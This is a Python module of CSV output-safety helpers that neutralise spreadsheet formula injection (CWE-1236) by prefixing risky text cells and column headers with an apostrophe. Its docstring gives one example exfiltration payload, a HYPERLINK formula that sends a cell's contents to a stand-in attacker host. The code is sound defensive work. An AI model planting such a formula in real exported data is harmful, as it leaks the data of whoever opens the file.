"""Output safety helpers (no Dagster import).

Spreadsheet formula injection (CWE-1236): a cell that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return is evaluated as a formula by Excel, LibreOffice and Google Sheets when a
CSV file is opened (``=HYPERLINK("https://evil.example/?"&A1, "click")`` in a job title, say).
Every CSV the project writes for people to open passes its text cells through :func:`csv_safe`,
which prefixes such a cell with ``'`` (OWASP's recommendation): spreadsheets then show the text
as typed. Parquet outputs are data, not documents, and stay byte-exact.
"""

from __future__ import annotations

import polars as pl

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value):
    """``value`` with a leading ``'`` if it is a string a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def csv_safe_expr(column: str) -> pl.Expr:
    """:func:`csv_safe` as a polars expression over one String column."""
    col = pl.col(column)
    return pl.when(col.str.contains(r"^[=+\-@\t\r]")).then(pl.lit("'") + col).otherwise(col).alias(column)


def csv_safe_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` made safe for spreadsheets: every text cell — String, Categorical and Enum
    columns alike (a Parquet input keeps its categoricals) — and every header. Numbers,
    booleans and dates are unchanged; nested columns must be flattened to text by the caller."""
    frame = frame.with_columns(
        [pl.col(n).cast(pl.String) for n, t in frame.schema.items() if isinstance(t, (pl.Categorical, pl.Enum))]
    )
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    out = frame.with_columns([csv_safe_expr(name) for name in text]) if text else frame
    renames = {c: csv_safe(c) for c in out.columns if c.startswith(FORMULA_PREFIXES)}
    return out.rename(renames) if renames else out
